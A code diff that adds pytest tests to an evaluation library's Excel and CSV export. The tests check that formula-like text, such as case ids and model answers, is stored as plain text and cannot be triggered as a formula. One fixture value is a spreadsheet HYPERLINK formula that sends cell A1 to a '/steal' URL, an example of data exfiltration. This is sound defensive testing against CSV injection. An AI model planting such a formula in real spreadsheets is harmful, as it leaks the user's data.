@@ -255,6 +255,66 @@ def test_read_results_says_what_it_reads(result: evalnb.Result, tmp_path: Path) 
     assert evalnb.read_results(saved).scores["passed"].tolist() == result.scores["passed"].tolist()
 
 
+FORMULAS = {
+    '=HYPERLINK("http://127.0.0.1:9/steal?d="&A1,"click")': "=1+2",
+    "+cmd": "@SUM(A1:A9)",
+    "-2+3": "\t=1",
+    "plain": "\r=1",
+}
+
+
+def _formula_result() -> evalnb.Result:
+    cases = [
+        Case(id=cid, name=cid, turns=[Turn(prompt=cid, checks=[RegexCheck(on="result", pattern="x")])])
+        for cid in FORMULAS
+    ]
+    suite = Suite(name="=suite", format="tasks-toml", cases=cases)
+    return evalnb.run(suite, lambda prompt: FORMULAS[prompt], progress=False)
+
+
+def test_excel_writes_formula_like_text_as_text(tmp_path: Path) -> None:
+    """OWASP CSV injection: a case id or an answer that starts with = + - @ tab or CR is text, never a formula."""
+    import zipfile
+
+    import openpyxl
+
+    path = _formula_result().to_excel(tmp_path / "card.xlsx")
+    with zipfile.ZipFile(path) as z:
+        xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
+    assert "<f>" not in xml and "<f " not in xml  # no cell of any sheet holds a formula
+    book = openpyxl.load_workbook(path)
+    seen: dict[str, bool] = {}
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if isinstance(cell.value, str):
+                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
+                    if cell.value[:1] in ("=", "+", "-", "@", "\t", "\n"):
+                        seen[cell.value] = bool(cell.quotePrefix)
+    for text in [t for t in [*FORMULAS, *FORMULAS.values(), "=suite"] if t != "plain"]:
+        # the text as written, marked as text (XML reads a carriage return back as a line feed)
+        assert seen.get(text.replace("\r", "\n")) is True, text
+    runs = pd.read_excel(path, sheet_name="cases")
+    assert runs["response"].tolist()[:3] == list(FORMULAS.values())[:3]  # the value itself is unchanged
+
+
+def test_csv_prefixes_formula_like_text(tmp_path: Path) -> None:
+    import csv
+
+    result = _formula_result()
+    folder = result.to_csv(tmp_path / "csv")
+    with open(folder / "runs.csv", newline="", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    assert [r["case_id"] for r in rows] == ["'" + c if c != "plain" else c for c in FORMULAS]
+    assert [r["response"] for r in rows] == ["'" + v for v in FORMULAS.values()]
+    assert {r["suite"] for r in rows} == {"'=suite"}
+    # numbers stay numbers: a negative latency would be written bare (only text is prefixed)
+    with open(folder / "cases.csv", newline="", encoding="utf-8") as fh:
+        cases = list(csv.DictReader(fh))
+    assert all(not r["latency_ms"].startswith("'") for r in cases)
+    assert result.runs["response"].tolist() == list(FORMULAS.values())  # the frames keep the text as it was
+
+
 def mk(name: str) -> Suite:
     return Suite(
         name=name,
